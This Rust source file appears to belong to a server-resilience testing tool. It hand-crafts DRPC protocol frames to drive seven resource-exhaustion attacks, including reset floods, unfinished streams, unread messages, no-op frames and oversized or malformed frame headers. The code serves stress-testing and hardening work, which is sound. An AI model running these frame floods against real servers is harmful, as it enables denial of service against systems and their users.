//! D1 to D7: attacks over DRPC. Frames are made here, byte by byte, so that the rules of that wire can be broken.

use super::Attack;
use crate::attack::peer::{Peer, Reading};

const INVOKE: u8 = 1;
const MESSAGE: u8 = 2;
const CANCEL: u8 = 4;
const METADATA: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const UNKNOWN: u8 = 40;

const DONE: u8 = 1;
const CONTROL: u8 = 0x80;

/// Streams with messages that are never completed.
const UNFINISHED: u64 = 64;
/// Bytes of a piece of a message.
const PIECE: [u8; 4096] = [7; 4096];

fn put_varint(out: &mut Vec<u8>, mut value: u64) {
    while value >= 0x80 {
        out.push(value as u8 | 0x80);
        value >>= 7;
    }
    out.push(value as u8);
}

/// Sends a frame; `length` may be other than that of the data.
fn announce(peer: &mut Peer, control: u8, (stream, message): (u64, u64), length: u64, data: &[u8]) {
    let mut frame = Vec::with_capacity(32 + data.len());
    frame.push(control);
    for number in [stream, message, length] {
        put_varint(&mut frame, number);
    }
    frame.extend_from_slice(data);
    peer.say(&frame);
    peer.frames += 1;
}

fn frame(peer: &mut Peer, kind: u8, flags: u8, numbers: (u64, u64), data: &[u8]) {
    announce(peer, kind << 1 | flags, numbers, data.len() as u64, data);
}

fn invoke(peer: &mut Peer, stream: u64) {
    frame(peer, INVOKE, DONE, (stream, 1), b"/attack");
}

/// D1: invokes and cancels at once.
#[derive(Default)]
pub(super) struct Reset(u64);

impl Attack for Reset {
    fn step(&mut self, peer: &mut Peer) {
        self.0 += 1;
        invoke(peer, self.0);
        frame(peer, CANCEL, DONE | CONTROL, (self.0, 2), b"");
    }
}

/// D2: invokes without end, and ends nothing; every other one only begins to.
#[derive(Default)]
pub(super) struct Invokes(u64);

impl Attack for Invokes {
    fn step(&mut self, peer: &mut Peer) {
        self.0 += 1;
        match self.0.is_multiple_of(2) {
            true => invoke(peer, self.0),
            // A piece of a name.
            false => frame(peer, INVOKE, 0, (self.0, 1), b"/att"),
        }
    }
}

/// D3: metadata of calls that are never invoked, on one stream after the other.
#[derive(Default)]
pub(super) struct Setups(u64);

impl Attack for Setups {
    fn step(&mut self, peer: &mut Peer) {
        self.0 += 1;
        frame(peer, METADATA, 0, (self.0, 1), &PIECE);
    }
}

/// D4: messages that are never completed, on many streams in turn.
#[derive(Default)]
pub(super) struct Unfinished(u64);

impl Attack for Unfinished {
    fn step(&mut self, peer: &mut Peer) {
        let stream = self.0 % UNFINISHED + 1;
        if self.0 < UNFINISHED {
            invoke(peer, stream);
        }
        self.0 += 1;
        frame(peer, MESSAGE, 0, (stream, 2), &PIECE);
    }
}

/// D5: messages whose echoes are not read.
#[derive(Default)]
pub(super) struct Unread(u64);

impl Attack for Unread {
    fn step(&mut self, peer: &mut Peer) {
        peer.reading = Reading::Nothing;
        let stream = self.0 % UNFINISHED + 1;
        if self.0 < UNFINISHED {
            invoke(peer, stream);
        }
        let message = self.0 / UNFINISHED + 2;
        self.0 += 1;
        frame(peer, MESSAGE, DONE, (stream, message), &PIECE);
    }
}

/// D6: frames that do nothing: of an unknown kind, and credit a byte at a time.
#[derive(Default)]
pub(super) struct Ignored(u64);

impl Attack for Ignored {
    fn step(&mut self, peer: &mut Peer) {
        if self.0 == 0 {
            invoke(peer, 1);
        }
        self.0 += 1;
        match self.0.is_multiple_of(2) {
            true => frame(peer, UNKNOWN, DONE | CONTROL, (1, self.0 + 1), b"x"),
            false => frame(peer, WINDOW_UPDATE, DONE | CONTROL, (1, 0), &[1]),
        }
    }
}

/// D7: a frame longer than any message, a number that does not end, or Noise.
pub(super) struct Oversized(u64);

impl Oversized {
    pub(super) const fn new(n: u64) -> Self {
        Self(n)
    }
}

impl Attack for Oversized {
    fn step(&mut self, peer: &mut Peer) {
        match self.0 {
            0 => {
                invoke(peer, 1);
                announce(peer, MESSAGE << 1 | DONE, (1, 2), 1 << 40, &PIECE);
            }
            1 => {
                peer.say(&[INVOKE << 1, 0xff, 0xff, 0xff, 0xff, 0xff]);
                peer.say(&[0xff; 16]);
                peer.frames += 1;
            }
            2 => {
                peer.say(b"DRPC!N!1");
                peer.frames += 1;
            }
            // The server has hung up, or will.
            _ => return,
        }
        self.0 = u64::MAX;
    }
}
